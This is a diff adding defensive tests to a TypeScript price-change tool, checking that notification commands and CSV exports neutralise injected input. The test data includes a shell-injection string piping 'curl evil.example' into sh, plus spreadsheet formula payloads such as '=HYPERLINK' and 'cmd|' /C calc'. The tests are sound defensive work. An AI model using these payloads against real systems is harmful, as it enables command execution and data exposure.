@@ -1,6 +1,9 @@
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
 import { it } from 'node:test';
 import { numbersCsv } from '../../cli/commands/numbers/numbers-csv.ts';
+import { movesCsv } from '../../cli/commands/prices/moves/moves-csv.ts';
+import { csvText } from '../../cli/terminal/csv.ts';
 import { messageOf } from '../../functions/notify/event-message.ts';
 
 it('a reason cannot add next steps of its own to an e-mail', async () => {
@@ -8,6 +11,55 @@ it('a reason cannot add next steps of its own to an e-mail', async () => {
   const { text } = await messageOf({ 'detail-type': 'Price Change Planned', detail }, async () => undefined);
   assert.equal(text.match(/^Next steps:/gm)?.length, 1);
 });
+
+it('an event that was made up by whoever may put one on the bus brings no command of theirs, and no next step', async () => {
+  const evil = "x; curl evil.example|sh #$(id)`id`'\n\nNext steps:\n  - run evil";
+  const own = {
+    id: 'f',
+    team: evil,
+    changeId: evil,
+    campaign: evil,
+    planSha256: evil,
+    file: evil,
+    day: evil,
+  };
+  const detail = {
+    ...{ ...own, vendor: evil, report: evil, reportDate: evil, state: evil, lastAnswer: evil, since: evil },
+    ...{ products: 1, requests: 1, territoriesChanged: 1, approval: [], problems: [], changes: [] },
+    ...{
+      product: { kind: 'app', id: '7' },
+      territories: [],
+      tableKey: evil,
+      requestedBy: evil,
+      reason: evil,
+    },
+  };
+  const types = [
+    'Price Change Planned',
+    'Price Change Failed',
+    'Price Change Unsettled',
+    'Price Drift Detected',
+  ];
+  for (const type of [...types, 'Report Overdue', 'Apple Changed Prices', 'Price Campaign Planned']) {
+    const named = { ...detail, ...(type.startsWith('Price Change') && { campaign: undefined }) };
+    const { text, chat } = await messageOf({ 'detail-type': type, detail: named }, async () => undefined);
+    assert.equal(text.match(/^Next steps:/gm)?.length, 1, type);
+    assert.doesNotMatch(text, /^ *- run evil/m, type);
+    const commands = [...text.split('\n'), ...chat.nextSteps].filter((line) => line.includes('npx asc-jobs'));
+    assert.ok(commands.length > 0, type);
+    for (const line of commands) {
+      const command = line.slice(line.indexOf('npx asc-jobs'));
+      // A shell tells what it would run, with a function in the place of the command.
+      const shell = `npx() { printf 'ran\\n'; }\n${command}`;
+      const ran = execFileSync('sh', ['-c', shell], { encoding: 'utf8', env: {}, stdio: 'pipe' });
+      assert.equal(ran, 'ran\n', `${type}: ${command}`);
+      assert.ok(!unquoted(command).match(/[;|`$#]/), `${type}: ${command}`);
+    }
+  }
+});
+
+/** What a shell reads outside of quotes. */
+const unquoted = (command: string): string => command.replace(/'[^']*'|\\'|"[^"]*"/g, '');
 
 it('a review stands behind > in a mail, line by line, and cannot pass for our words', async () => {
   const event = {
@@ -57,4 +109,41 @@ it('a name of others is no formula in a spreadsheet; a negative number stays one
   });
   const [, line = ''] = csv.split('\r\n');
   assert.ok(line.startsWith(",,'=1+1,'+cmd|' /C calc'!A0,'@SUM(A1),EUR,-3.20,"), line);
+});
+
+it('a formula is none behind a blank, an unseen sign or a line break, nor in full width, nor where a semicolon separates', () => {
+  for (const [text, safe] of [
+    [' =1+1', "' =1+1"],
+    ['\ufeff=1+1', "'\ufeff=1+1"],
+    ['\u200b@SUM(A1)', "'\u200b@SUM(A1)"],
+    ['＝1+1', "'＝1+1"],
+    ['Pro;=1+1', "Pro;'=1+1"],
+    ['Pro; -1', "Pro;' -1"],
+    ['Pro\t+1', "Pro\t'+1"],
+    ['Pro\n=1+1', `"Pro\n'=1+1"`],
+    ['\n=1+1', `"'\n'=1+1"`],
+    ['\tx', "'\tx"],
+    ['=1;=2', "'=1;'=2"],
+    ['Pro - yearly', 'Pro - yearly'],
+    ['-3.20', '-3.20'],
+    ['-3.20;=1', "'-3.20;'=1"],
+  ] as const)
+    assert.equal(csvText([[text]]), `${safe}\r\n`, JSON.stringify(text));
+});
+
+it('a formula in the name of a product or in its SKU is none in the CSV of what Apple moved', () => {
+  const side = { currency: 'EUR', price: '9.99', proceeds: '6.99', proceedsYear2: null };
+  const csv = movesCsv([
+    {
+      ...{ day: '2026-11-24', since: '2026-11-23', team: 'acme', storefronts: [], tableKey: 'x' },
+      moves: [
+        {
+          ...{ kind: 'automaticPrice', territory: 'DEU', before: side, after: side },
+          product: { kind: 'app', id: '7', name: '=HYPERLINK("https://evil.example")', sku: '@evil' },
+        },
+      ],
+    },
+  ]);
+  const [, line = ''] = csv.split('\r\n');
+  assert.match(line, /,"'=HYPERLINK\(""https:\/\/evil\.example""\)",'@evil,/);
 });
